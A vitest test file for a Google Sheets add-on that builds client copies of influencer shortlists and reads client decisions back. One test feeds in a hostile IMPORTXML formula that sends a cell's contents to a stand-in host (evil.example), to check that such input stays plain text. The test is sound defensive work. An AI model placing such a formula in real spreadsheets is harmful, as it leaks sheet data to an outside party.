import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import type { Calls } from '../../src/sidebar/calls';
import { createAddon, KEY, type Addon } from '../setup/addon';
import { expectLedgerToAgree } from '../setup/ledger';
import { drivenRun, refusal, value } from './page';

let addon: Addon;
beforeAll(async () => {
  addon = await createAddon({ container: 'addon', standin: { creators: 60 } });
  await addon.emulator.open();
});
afterEach(() => expectLedgerToAgree(addon));
afterAll(() => addon.close());

const book = () => addon.emulator.spreadsheet;
const sheet = (name: string) => book().sheet(name);
type Cells = (string | number | boolean | Date | null)[][];

const ID = '5f2b9c3e8d1a4b6c7e9f0a1b';
const PICTURE = 'https://pictures.example/nike.jpg';
const HEADERS = ['Picture', 'Handle', 'Platform', 'Followers', 'Fee', 'Notes', 'Owner', 'influData id', 'Found by'];
const ROWS: Cells = [
  [`=IMAGE("${PICTURE}")`, 'nike', 'Instagram', '=1000*3', 4500, 'Too dear', 'Ann', ID, 'instagram: sport'],
  ['=IMAGE(A1)', 'khaby.lame', 'TikTok', 2_000_000.25, 100, '', 'Bob', ID, 'x'],
  ['', 'https://www.youtube.com/@MKBHD', '', '=1/0', 7, '', '', ID, 'x'],
  ['', 'natgeo', 'Instagram', 12, 8, '', '', ID, 'x'],
];

/** A list in a sheet of its own, in front. */
async function listOf(name: string, rows: Cells = ROWS, headers: Cells[number] = HEADERS): Promise<string> {
  book().insertSheet(name);
  sheet(name).set('A1', [headers, ...rows]);
  sheet(name).activate();
  await addon.emulator.recalculate();
  return name;
}
const facts = () => value(addon, 'clientList', { platform: '' });
const headersOf = (name: string): string[] => (sheet(name).values()[0] ?? []).map(String);

async function made(pick: (header: string) => boolean = () => true): Promise<Calls['makeClientSheet']['gets']> {
  const { sheetId, columns } = await facts();
  const picked = columns.filter(({ header }) => pick(header)).map(({ column, header }) => ({ column, header }));
  return value(addon, 'makeClientSheet', { sheetId, platform: '', columns: picked });
}
/** As a client fills it in: a decision and a comment by handle. */
function decide(name: string, answers: Record<string, [decision: string, comment: string]>): void {
  const [headers = [], ...rows] = sheet(name).values();
  const at = (header: string): string => String.fromCharCode(65 + headers.indexOf(header));
  rows.forEach((cells, index) => {
    const answer = answers[String(cells[headers.indexOf('Creator')])];
    if (!answer) return;
    sheet(name).set(`${at('Decision')}${index + 2}`, answer[0]);
    sheet(name).set(`${at('Comment')}${index + 2}`, answer[1]);
  });
}
async function readBack(list: string, from: string | null, pasted = '') {
  const source = from === null ? { pasted } : { sheet: sheet(from).id };
  return value(addon, 'readDecisions', { sheetId: sheet(list).id, platform: '', source });
}
/** As Sheets puts a cell on the clipboard. */
const quoted = (cell: unknown): string =>
  /[\t\n"]/.test(String(cell)) ? `"${String(cell).replaceAll('"', '""')}"` : String(cell);

/** What the list says of each creator, by what its column of handles holds. */
function answersIn(list: string): Record<string, [unknown, unknown]> {
  const [headers = [], ...rows] = sheet(list).values();
  const [key, decision, comment] = ['Handle', 'Client decision', 'Client comment'].map((each) => headers.indexOf(each));
  return Object.fromEntries(rows.map((cells) => [cells[key ?? 0], [cells[decision ?? -1], cells[comment ?? -1]]]));
}

describe('the copy for a client', () => {
  test('proposes what describes a creator, and offers no column that is only for machines', async () => {
    await listOf('Proposed', ROWS, HEADERS);
    const { columns, creators } = await facts();
    expect(creators).toBe(4);
    expect(columns.map(({ header, isChosen }) => [header, isChosen])).toEqual([
      ['Picture', true],
      ['Followers', true],
      ['Fee', false],
      ['Notes', false],
      ['Owner', false],
    ]);
  });

  test('of a result sheet that became a pipeline with flags, a client is proposed the creators alone', async () => {
    const run = await value(addon, 'startSearch', {
      platform: 'instagram',
      filters: { country: 'Germany' },
      from: 1,
      to: 1,
      sheetId: null,
      known: 'skip',
      pictures: true,
      picks: [],
      again: false,
      cap: null,
    });
    const { sheet: found } = await drivenRun(addon, run);
    await value(addon, 'makePipeline', { platform: 'instagram' });
    sheet(found).activate();
    const { sheetId, flags } = await value(addon, 'readVetting', { flags: ['engagement'], platform: '' });
    await value(addon, 'layFlags', { sheetId, flags, platform: '' });
    sheet(found).activate();
    await addon.emulator.recalculate();
    // By any other name.
    const flagAt = headersOf(found).indexOf('Engagement flag');
    sheet(found).set(`${String.fromCharCode(65 + flagAt)}1`, 'Engagement');
    const { columns, creators } = await facts();
    expect(columns.flatMap(({ header, isChosen }) => (isChosen ? [header] : []))).toEqual([
      'Picture',
      'Name',
      'Followers',
      'Engagement %',
      'Country',
      'Profile score',
      'Profile link',
    ]);
    expect(columns.map(({ header }) => header)).toEqual(expect.arrayContaining(['Status', 'Fee', 'Engagement']));
    const { sheet: copy, pictures } = await made((header) =>
      columns.some((each) => each.header === header && each.isChosen),
    );
    expect([creators, pictures, sheet(copy).lastRow]).toEqual([creators, creators, creators + 1]);
    // No name of a creator is cut off, and no address runs on to where the client decides.
    const longest = Math.max(
      ...sheet(copy)
        .values()
        .map(([, name]) => String(name).length),
    );
    const pixels = sheet(copy).data.columnProperties.map((each) => each?.pixels ?? 0);
    expect(pixels[1]).toBeGreaterThanOrEqual(longest * 7);
    expect(Math.max(...pixels)).toBeLessThanOrEqual(340);
    const ids = sheet(found)
      .values()
      .map((cells) => String(cells[headersOf(found).indexOf('influData id')]))
      .slice(1);
    expect(ids[0]).toMatch(/^[0-9a-f]{24}$/);
    for (const text of [...ids, KEY, 'Germany";', 'influData'])
      expect(JSON.stringify(sheet(copy).data)).not.toContain(text);
    expect(sheet(copy).data.conditionalFormats).toHaveLength(3);
  });

  test('holds values and pictures, and nothing of ours: no formula, key, id, note or metadata, no hidden sheet more', async () => {
    await listOf('Shortlist');
    sheet('Shortlist').format('D2:D5', { numberFormat: '#,##0' });
    const before = { names: book().sheetNames(), metadata: book().metadata().length };
    const result = await made((header) => header !== 'Owner');
    expect(result).toEqual({
      sheet: 'Shortlist for client',
      creators: 4,
      hidden: 0,
      pictures: 1,
      picturesLeft: 1,
      blanked: 1,
    });
    expect(book().sheetNames()).toEqual([...before.names, 'Shortlist for client']);
    expect(book().metadata()).toHaveLength(before.metadata);
    const copy = sheet('Shortlist for client');
    expect(copy.values()).toEqual([
      ['Picture', 'Creator', 'Platform', 'Followers', 'Fee', 'Notes', 'Decision', 'Comment'],
      ['', '@nike', 'Instagram', 3000, 4500, 'Too dear', '', ''],
      ['', '@khaby.lame', 'TikTok', 2_000_000.25, 100, '', '', ''],
      ['', '@MKBHD', 'YouTube', '', 7, '', '', ''],
      ['', '@natgeo', 'Instagram', 12, 8, '', '', ''],
    ]);
    expect([copy.data.frozenRows, copy.data.frozenColumns]).toEqual([1, 2]);
    const alignments = [...'CDEF'].map((letter) => copy.get(`${letter}1`).format.horizontalAlignment);
    expect(alignments).toEqual([undefined, 'right', 'right', undefined]);
    expect(copy.formulas('A1:Z30').flat().filter(Boolean)).toEqual([]);
    expect(copy.get('A2').image).toMatchObject({ sourceUrl: PICTURE, altTextTitle: '@nike' });
    expect(copy.get('D2').display).toBe('3,000');
    const { data } = copy;
    expect(JSON.stringify(data)).not.toMatch(new RegExp(`${KEY}|${ID}|Found by|instagram: sport|Ann|influ`, 'i'));
    // A list to choose from, and a warning everywhere else, for everybody alike.
    expect(copy.get('G3').validation).toMatchObject({
      criteria: 'VALUE_IN_LIST',
      values: [['approve', 'decline', 'maybe'], true],
    });
    expect(data.protections).toMatchObject([
      { type: 'SHEET', warningOnly: true, unprotected: [{ row: 2, column: 7, rows: 4, columns: 2 }] },
    ]);
    expect(addon.charged()).toBe(1);
  });

  test('leaves out hidden rows, rows that name nobody, and creators whom only our id names; a link beside it names them', async () => {
    const name = await listOf(
      'Odd',
      [
        ['nike', 'Instagram', ''],
        ['hidden.one', 'Instagram', ''],
        ['who knows?', 'Instagram', ''],
        [`id:${ID}`, '', ''],
        [`id:${ID.replace('5', '6')}`, '', 'https://www.tiktok.com/@linked'],
      ],
      ['Handle', 'Platform', 'Profile link'],
    );
    sheet(name).hideRows(3);
    expect(await facts()).toMatchObject({ creators: 3, unread: 1, byIdAlone: 1 });
    expect(await made(() => false)).toMatchObject({ creators: 2, hidden: 1 });
    expect(sheet('Odd for client').values().slice(1)).toEqual([
      ['@nike', 'Instagram', '', ''],
      ['@linked', 'TikTok', '', ''],
    ]);
  });

  test('what formulas say before they have a value is left out, and what they say of money; the same word of a person stays', async () => {
    const money = 'budget reached: today\u2019s cap of 655 requests. Raise it under Account.';
    await listOf(
      'States',
      [
        ['nike', '=INFLU_FOLLOWERS("x")', 'pending', money],
        ['adidas', '=INFLU_FOLLOWERS("y")', 'private', 'Connect influData first: Extensions › influData'],
      ],
      ['Instagram handle', 'Followers', 'Fits', 'Reach'],
    );
    const { data } = sheet('States');
    for (const [row, text] of [
      [1, 'pending'],
      [2, 12],
    ] as const)
      Object.assign(data.rows[row]![1]!, { value: text, error: undefined, loading: undefined, stale: undefined });
    expect(await made()).toMatchObject({ blanked: 3 });
    expect(sheet('States for client').values().slice(1)).toEqual([
      ['@nike', 'Instagram', '', 'pending', '', '', ''],
      ['@adidas', 'Instagram', 12, 'private', '', '', ''],
    ]);
  });

  test('every figure keeps the look of its own cell: what stands in dollars is not shown in euros', async () => {
    const name = await listOf(
      'Fees',
      [
        ['MACRO', '', ''],
        ['nike', 100, 0.05],
        ['natgeo', 200, 0.07],
        ['adidas', 300, 1.2],
      ],
      ['Instagram', 'Fee', 'Reach'],
    );
    sheet(name).format('B3', { numberFormat: '#,##0 "EUR"' });
    sheet(name).format('B4', { numberFormat: '"$"#,##0' });
    sheet(name).format('C3:C4', { numberFormat: '0%' });
    const { sheet: copy } = await made();
    const shown = ['C', 'D'].map((column) => [2, 3, 4].map((row) => sheet(copy).get(`${column}${row}`).display));
    expect(shown).toEqual([
      ['100 EUR', '$200', '300'],
      ['5%', '7%', '1.2'],
    ]);
  });

  test('texts from strangers stay texts, in headers too', async () => {
    const hostile = '=IMPORTXML("https://evil.example/"&A1;"//a")';
    await listOf(
      'Hostile',
      [['nike', `'${hostile}`, "'+1 555", "'00123"]],
      ['Instagram handle', `'${hostile}`, 'Decision', "'-x"],
    );
    await made();
    const copy = sheet('Hostile for client');
    expect(copy.formulas('A1:Z30').flat().filter(Boolean)).toEqual([]);
    expect(copy.values()).toEqual([
      ['Creator', 'Platform', hostile, 'Decision 2', '-x', 'Decision', 'Comment'],
      ['@nike', 'Instagram', hostile, '+1 555', '00123', '', ''],
    ]);
  });
});

const ANSWERS: Record<string, [string, string]> = {
  '@nike': ['approve', 'Yes, =please'],
  '@khaby.lame': ['Decline', ''],
  '@natgeo': ['', 'Who is that?'],
};
const BROUGHT = {
  nike: ['approve', 'Yes, =please'],
  'khaby.lame': ['decline', ''],
  natgeo: ['', 'Who is that?'],
};

describe('decisions come back', () => {
  let copy = '';
  let list = '';
  let count = 0;
  /** A list and its copy with answers in it. */
  async function answered(): Promise<void> {
    count += 1;
    list = await listOf(`List ${count}`);
    copy = (await made(() => true)).sheet;
    decide(copy, ANSWERS);
  }

  test('by creator, into columns of their own; read again they change nothing, and the copy knows its list', async () => {
    await answered();
    expect(await facts()).toMatchObject({ sheet: list, source: sheet(copy).id });
    const result = await readBack(list, copy);
    expect(result).toEqual({
      read: 3,
      changed: 3,
      none: ['@MKBHD', '@natgeo'],
      gone: [],
      conflicting: [],
      other: [],
      kept: [],
      unreadable: [],
      columns: { creator: 'Creator', decision: 'Decision', comment: 'Comment' },
    });
    expect(answersIn(list)).toMatchObject(BROUGHT);
    expect(headersOf(list)).toEqual([...HEADERS, 'Client decision', 'Client comment']);
    expect(sheet(list).get('K2').formula).toBe('');
    expect(await readBack(list, copy)).toMatchObject({ read: 3, changed: 0 });
    // The columns that came back are not offered to the next client.
    sheet(list).activate();
    expect((await facts()).columns.map(({ header }) => header)).not.toContain('Client decision');
  });

  test.each<[string, () => void]>([
    ['the copy was sorted', () => sheet(copy).sort('A2:I5', [{ column: 'B', ascending: false }])],
    ['rows and columns went into the copy', () => (sheet(copy).insertRows(1, 2), sheet(copy).insertColumns(3))],
    [
      'columns of the copy were renamed',
      () => {
        const [headers = []] = sheet(copy).values();
        for (const [from, to] of [
          ['Creator', 'Who'],
          ['Decision', 'Our call'],
          ['Comment', 'Our words'],
          ['Platform', 'Where'],
        ])
          sheet(copy).set(`${String.fromCharCode(65 + headers.indexOf(from!))}1`, to);
      },
    ],
    ['the platforms went', () => sheet(copy).deleteColumns(headersOf(copy).indexOf('Platform') + 1)],
    ['a row of the copy was deleted', () => sheet(copy).deleteRows(4)],
    [
      'the list was sorted, and its columns moved and renamed',
      () => {
        sheet(list).sort('A2:I5', [{ column: 'B', ascending: false }]);
        sheet(list).insertColumns(1, 2);
        sheet(list).set('D1', 'Handle');
        sheet(list).insertRows(3);
      },
    ],
  ])('%s', async (_, edit) => {
    await answered();
    edit();
    await readBack(list, copy);
    expect(answersIn(list)).toMatchObject(BROUGHT);
  });

  test("the client's columns are told from those of the list that went along, whatever these are called", async () => {
    const own = await listOf(
      'Called so',
      [
        ['approve', 'ours', 'nike', 'ours too'],
        ['approve', 'ours', 'natgeo', ''],
      ],
      ['Entscheidung', 'Kommentar', 'Instagram', 'Comments'],
    );
    const { sheet: theirs } = await made();
    decide(theirs, { '@nike': ['decline', 'too loud'], '@natgeo': ['maybe', ''] });
    const { columns } = await readBack(own, theirs);
    expect(columns).toEqual({ creator: 'Creator', decision: 'Decision', comment: 'Comment' });
    expect(sheet(own).values('E1:F3')).toEqual([
      ['Client decision', 'Client comment'],
      ['decline', 'too loud'],
      ['maybe', ''],
    ]);
    // The client calls it otherwise.
    const [headers = []] = sheet(theirs).values();
    sheet(theirs).set(`${String.fromCharCode(65 + headers.indexOf('Comment'))}1`, 'Kommentar Kunde');
    expect((await readBack(own, theirs)).columns.comment).toBe('Kommentar Kunde');
  });

  test('the list keeps its two columns by their marks, when they are moved and renamed', async () => {
    await answered();
    await readBack(list, copy);
    sheet(list).set('J1', 'Verdict');
    sheet(list).moveColumn('J', 'A');
    decide(copy, { '@nike': ['maybe', 'Later'] });
    expect(await readBack(list, copy)).toMatchObject({ changed: 1 });
    expect(headersOf(list)).toEqual(['Verdict', ...HEADERS, 'Client comment']);
    expect(sheet(list).values('A2:A5').flat()).toEqual(['maybe', 'decline', '', '']);
  });

  test('it is said who is gone, who was decided twice, in other words, and who has none any more; those stay as they are', async () => {
    await answered();
    await readBack(list, copy);
    sheet(list).set('B3', 'somebody.else');
    decide(copy, { '@nike': ['', 'Yes, =please'], '@natgeo': ['sure!', ''], '@MKBHD': ['approve', ''] });
    const rows = sheet(copy).values();
    const again = rows
      .find((cells) => cells.includes('@MKBHD'))!
      .map((cell) => (cell === 'approve' ? 'decline' : cell));
    sheet(copy).set('A6', [again, again.map((cell) => (cell === '@MKBHD' ? 'no handle, really' : cell))]);
    const result = await readBack(list, copy);
    expect(result).toMatchObject({
      none: ['@nike'],
      kept: ['@nike'],
      gone: ['@khaby.lame'],
      conflicting: ['@MKBHD'],
      other: ['@natgeo'],
      unreadable: [7],
      changed: 1,
    });
    expect(answersIn(list)).toMatchObject({
      nike: ['approve', 'Yes, =please'],
      natgeo: ['sure!', 'Who is that?'],
      'https://www.youtube.com/@MKBHD': ['', ''],
    });
  });

  test('from rows that were pasted, and from a sheet that was copied to another file and back', async () => {
    await answered();
    decide(copy, { '@nike': ['approve', 'One "line"\nand\tanother'] });
    const pasted = sheet(copy)
      .values()
      .map((cells) => cells.map(quoted).join('\t'))
      .join('\r\n');
    expect(await readBack(list, null, pasted)).toMatchObject({ read: 3, changed: 3 });
    expect(answersIn(list)['nike']).toEqual(['approve', 'One "line"\nand\tanother']);
    // File › Copy to: a sheet of another id, without protection.
    book().insertSheet(`Copy of ${copy}`);
    sheet(`Copy of ${copy}`).set('A1', sheet(copy).values());
    sheet(copy).delete();
    decide(`Copy of ${copy}`, { '@nike': ['decline', 'No'] });
    expect(await readBack(list, `Copy of ${copy}`)).toMatchObject({ changed: 1 });
    expect(answersIn(list)['nike']).toEqual(['decline', 'No']);
    // Without its headers, too.
    const bare = `@nike\tInstagram\tmaybe\tHm\n@natgeo\tInstagram\tapprove\t`;
    expect(await readBack(list, null, bare)).toMatchObject({
      changed: 2,
      columns: { decision: 'Column C', comment: 'Column D' },
    });
  });

  test('what cannot be read is refused in words, and changes nothing', async () => {
    await answered();
    const before = JSON.stringify(sheet(list).values());
    const asked = { sheetId: sheet(list).id, platform: '' as const, source: { pasted: '' } };
    expect(await refusal(addon, 'readDecisions', asked)).toMatch(/No creators found in the pasted rows/);
    expect(
      await refusal(addon, 'readDecisions', { ...asked, source: { pasted: '@nike\tgood\n@natgeo\tbad' } }),
    ).toMatch(/No column with decisions/);
    expect(await refusal(addon, 'readDecisions', { ...asked, source: { sheet: 999_999 } })).toMatch(/was deleted/);
    sheet(list).activate();
    const { columns } = await facts();
    sheet(list).insertColumns(1);
    const form = {
      sheetId: sheet(list).id,
      platform: '' as const,
      columns: columns.map(({ column, header }) => ({ column, header })),
    };
    expect(await refusal(addon, 'makeClientSheet', form)).toMatch(/moved or renamed/);
    sheet(list).deleteColumns(1);
    expect(JSON.stringify(sheet(list).values())).toBe(before);
  });
});

const LEAVES_SOMETHING = /^(?!.*get).*(set|insert|flush|add|protect|activate)/i;
const LOOKS_OR_WRITES = /getValues|setValues|getFormulas|flush|find/;
/** What comes before the nth of some calls of an execution. */
function meddle(some: RegExp, at: (nth: number) => { kill: true } | void): void {
  let nth = 0;
  addon.emulator.faults.intercept = ({ service, method, phase }) =>
    phase === 'before' && some.test(method) && service !== 'CacheService' ? at(nth++) : undefined;
}
const alone = (): void => void delete addon.emulator.faults.intercept;

/** Of a reading, about. */
const CALLS = 23;

describe('in the middle', () => {
  test('stopped dead anywhere: the list is as it was, what has the name is whole, and the next click makes it', async () => {
    const name = await listOf('Killed');
    const before = JSON.stringify(sheet(name).data);
    let points = 0;
    for (let nth = 0, isDone = false; !isDone; nth++, points++) {
      meddle(LEAVES_SOMETHING, (each) => (each === nth ? { kill: true } : undefined));
      sheet(name).activate();
      isDone = await made().then(
        () => true,
        () => false,
      );
      alone();
      expect(JSON.stringify(sheet(name).data)).toBe(before);
      for (const each of book()
        .sheetNames()
        .filter((text) => /^Killed for client( \d)?$/.test(text))) {
        expect(sheet(each).values()).toHaveLength(5);
        expect(sheet(each).data.protections).toHaveLength(1);
        sheet(each).delete();
      }
      for (const each of book().sheetNames()) if (each.includes('(not finished)')) sheet(each).delete();
    }
    expect(points).toBeGreaterThan(15);
  });

  test('reading stopped dead anywhere: the next click brings the rest, once', async () => {
    let points = 0;
    const list = await listOf('Dead', ROWS.slice(0, 2));
    const { sheet: copy } = await made(() => false);
    decide(copy, ANSWERS);
    const begin = book().snapshot();
    for (let nth = 0, isDone = false; !isDone; nth++, points++) {
      book().load(begin);
      meddle(LEAVES_SOMETHING, (each) => (each === nth ? { kill: true } : undefined));
      isDone = await readBack(list, copy).then(
        () => true,
        () => false,
      );
      alone();
      await readBack(list, copy);
      expect(headersOf(list)).toEqual([...HEADERS, 'Client decision', 'Client comment']);
      expect(answersIn(list)).toEqual({ nike: BROUGHT.nike, 'khaby.lame': BROUGHT['khaby.lame'] });
    }
    expect(points).toBeGreaterThan(5);
    for (const each of [list, copy]) sheet(each).delete();
  });

  test.each<[string, number, (list: string) => void]>([
    ['a row comes in', 0, (list) => sheet(list).insertRows(3)],
    ['rows are sorted', 1, (list) => sheet(list).sort('A2:M5', [{ column: 'B', ascending: false }])],
    ['a column comes in', 2, (list) => sheet(list).insertColumns(2)],
  ])('%s while decisions are written: each stands beside its creator, and no cell is lost', async (_, first, edit) => {
    const list = await listOf('Moved');
    const { sheet: copy } = await made(() => false);
    decide(copy, ANSWERS);
    await readBack(list, copy);
    sheet(list).set('L1', [['Mine'], ['a'], ['b'], ['c'], ['d']]);
    decide(copy, { '@nike': ['maybe', 'x'], '@natgeo': ['decline', 'y'] });
    const begin = book().snapshot();
    for (let nth = first; nth < CALLS; nth += 4) {
      book().load(begin);
      meddle(LOOKS_OR_WRITES, (each) => (each === nth ? edit(list) : undefined));
      await readBack(list, copy).catch(() => undefined);
      alone();
      await readBack(list, copy);
      const { '': inserted = ['', ''], ...answers } = answersIn(list);
      expect([nth, inserted, answers]).toEqual([
        nth,
        ['', ''],
        {
          nike: ['maybe', 'x'],
          'khaby.lame': ['decline', ''],
          'https://www.youtube.com/@MKBHD': ['', ''],
          natgeo: ['decline', 'y'],
        },
      ]);
      const [headers = [], ...rows] = sheet(list).values();
      const mine = rows.map((cells) => [cells[headers.indexOf('Handle')], cells[headers.indexOf('Mine')]]);
      expect(Object.fromEntries(mine.filter(([handle]) => handle !== ''))).toEqual({
        nike: 'a',
        'khaby.lame': 'b',
        'https://www.youtube.com/@MKBHD': 'c',
        natgeo: 'd',
      });
    }
    for (const each of [list, copy]) sheet(each).delete();
  });

  test('a picture that Google refuses costs that picture alone', async () => {
    await listOf(
      'Refused',
      Array.from({ length: 60 }, (_, at) => [`=IMAGE("https://p.example/${at}.jpg")`, `anna.k${at}`]),
      ['Picture', 'Instagram'],
    );
    addon.emulator.faults.intercept = ({ method, args, phase }) =>
      phase === 'before' && method === 'Range.setValues' && JSON.stringify(args).includes('p.example/17.jpg')
        ? { throw: 'Exception: The image could not be retrieved.' }
        : undefined;
    expect(await made()).toMatchObject({ creators: 60, pictures: 59, picturesLeft: 1 });
    alone();
    const copy = sheet('Refused for client');
    expect(copy.get('A18').image?.sourceUrl).toBe('https://p.example/16.jpg');
    expect([copy.get('A19').image, copy.get('B19').value]).toEqual([null, '@anna.k17']);
  });
});

/** Calls to the document that take their time; names of sheets and the like cost nothing. */
function slowCalls(): number {
  const all = Object.entries(addon.emulator.counts.total());
  return all.reduce(
    (sum, [name, times]) => sum + (/get(Values|Formulas|Rich|Number)|set|insert|flush/i.test(name) ? times : 0),
    0,
  );
}

test('of 3,600 rows, which is more than one block: calls grow with blocks', async () => {
  const rows = 3_600;
  const list = await listOf(
    'Long',
    Array.from({ length: rows }, (_, at) => [`anna.k${at}`, at, `note ${at}`]),
    ['Instagram handle', 'Followers', 'Notes'],
  );
  const { sheetId, columns, ...told } = await facts();
  expect(told).toMatchObject({ creators: rows, isHiddenUnknown: true });
  const picked = columns.map(({ column, header }) => ({ column, header }));
  addon.emulator.counts.reset();
  const { sheet: copy } = await value(addon, 'makeClientSheet', { sheetId, platform: '', columns: picked });
  expect(slowCalls()).toBeLessThan(60);
  const decisions = Array.from({ length: rows }, (_, at) => [at % 2 === 0 ? 'approve' : '']);
  sheet(copy).set('E2', decisions);
  addon.emulator.counts.reset();
  expect(await readBack(list, copy)).toMatchObject({ read: rows / 2, changed: rows / 2 });
  expect(slowCalls()).toBeLessThan(60);
  expect(sheet(list).values(`D2:D${rows + 1}`)).toEqual(decisions);
});
